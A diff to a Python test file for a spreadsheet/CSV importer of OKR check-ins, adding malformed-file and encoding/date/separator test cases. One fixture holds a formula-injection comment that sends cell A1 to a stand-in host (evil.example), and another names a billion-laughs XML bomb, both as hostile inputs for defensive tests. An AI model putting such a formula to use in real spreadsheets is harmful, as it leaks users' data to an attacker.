@@ -51,6 +51,15 @@ BAD_FILES = {
                                              ("engineering_number_for_status_kr", 2, "status")),
     "status_for_numeric_kr.csv": ("error", "this number KR needs a numeric value",
                                   ("status_for_numeric_kr", 2, "value")),
+    "only_empty_sheets.xlsx": ("error", "the file holds no data", None),
+    "duplicate_headers.csv": ("error", '2 columns are headed "value" (columns C, D); keep one and delete the others',
+                              ("duplicate_headers", 1, "value")),
+    "excel_error_value.xlsx": ("error", "the cell shows the error #DIV/0! (its formula failed); fix the formula, or "
+                                        "type the value instead", ("CheckIns", 2, "value")),
+    "overlong_cell.csv": ("error", "the cell holds 40,000 characters; a spreadsheet cell holds at most 32,767 "
+                                   "(Excel's limit): shorten it", ("overlong_cell", 2, "comment")),
+    "billion_laughs.xlsx": ("error", "the workbook's xl/sharedStrings.xml declares XML entities, which Excel never "
+                                     "writes (a file made to exhaust the server's memory)", None),
 }
 
 
@@ -84,7 +93,7 @@ GOOD_FILES = {
     "excel_serial_dates.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
     "percent_and_dollar.csv": (
         [check_in("SAL-O2-KR3", 24), check_in("SAL-O2-KR1", 1200)],
-        ["value 1,200 is below the previous check-in (473,000 on 2027-05-28) for a KR meant to increase"],
+        ["value 1,200 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase"],
     ),
     "utf16_tab.csv": ([check_in("SAL-O2-KR1", 512000, comment="Déjà deux contrats")], []),
     "utf16le_without_bom.csv": ([check_in("SAL-O2-KR1", 512000)], []),
@@ -99,10 +108,34 @@ GOOD_FILES = {
         [],
     ),
     "value_moved_backwards.csv": (
-        [check_in("SAL-O2-KR1", 400000, confidence=6, comment="Deal slipped out"), check_in("SAL-O2-KR4", 85, confidence=6)],
-        ["value 400,000 is below the previous check-in (473,000 on 2027-05-28) for a KR meant to increase",
+        [check_in("SAL-O2-KR1", 300000, confidence=6, comment="Deal slipped out"), check_in("SAL-O2-KR4", 85, confidence=6)],
+        ["value 300,000 is below the previous check-in (338,000 on 2027-05-28) for a KR meant to increase",
          "value 85 is above the previous check-in (79 on 2027-05-28) for a KR meant to decrease"],
     ),
+    "utf8_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Déjà signé")], []),
+    "utf16be_bom.csv": ([check_in("SAL-O2-KR1", 512000, comment="Größer – ça marche")], []),
+    "utf16be_without_bom.csv": ([check_in("SAL-O2-KR1", 512000)], []),
+    "pipe_separated.csv": ([check_in("SAL-O2-KR1", 512000, comment="Two deals, both signed")], []),
+    # Tab-separated: a single comma is a decimal comma (23,5), as a lone comma is in any file.
+    "tab_separated_utf8.csv": ([check_in("SAL-O2-KR1", 512000, confidence=7), check_in("SAL-O2-KR3", 23.5, confidence=8)],
+                               []),
+    # Comma-separated: "23,5" (quoted) is a decimal comma, "1,250,000" groups thousands.
+    "decimal_comma_quoted.csv": ([check_in("SAL-O2-KR3", 23.5), check_in("SAL-O2-KR1", 1250000)], []),
+    # The stated rule: day first (03/04/2027 is 3 April), unless the date can only be month first.
+    "ambiguous_dates.csv": (
+        [check_in("SAL-O2-KR1", 350000, date=pd.Timestamp("2027-04-03")), check_in("SAL-O2-KR2", 15)],
+        ["value 15 is below the previous check-in (19 on 2027-05-28) for a KR meant to increase"],
+    ),
+    # A date cell, and a plain serial number counted from 1904-01-01 (45076 there is 2027-05-31).
+    "epoch_1904.xlsx": ([check_in("SAL-O2-KR1", 512000), check_in("SAL-O2-KR2", 15)], []),
+    "merged_title_cells.xlsx": ([check_in("SAL-O2-KR1", 512000, comment="Two deals closed")], []),
+    "title_rows_above_header.csv": ([check_in("SAL-O2-KR1", 512000)], []),
+    "empty_sheet_beside_data.xlsx": ([check_in("SAL-O2-KR1", 512000, confidence=7, comment="Two deals closed",
+                                               updated_by="Maya Goldberg")], []),
+    "formula_with_saved_result.xlsx": ([check_in("SAL-O2-KR1", 512000)], []),
+    # Stored as typed; every export neutralises it (tests/test_hostile_input.py).
+    "formula_injection_comment.csv": ([check_in("SAL-O2-KR1", 512000, confidence=7,
+                                                comment='=HYPERLINK("http://evil.example/?d="&A1,"Click")')], []),
 }
 
 
@@ -123,9 +156,9 @@ def commit(target: str, file_name: str, content: bytes | None = None):
         store.close()
 
 
-def test_the_corpus_holds_25_files_or_more_and_each_has_a_case():
+def test_the_corpus_holds_50_files_or_more_and_each_has_a_case():
     files = {path.name for path in CORPUS.iterdir()}
-    assert len(files) >= 25
+    assert len(files) >= 50
     assert files == set(BAD_FILES) | set(GOOD_FILES)
 
 
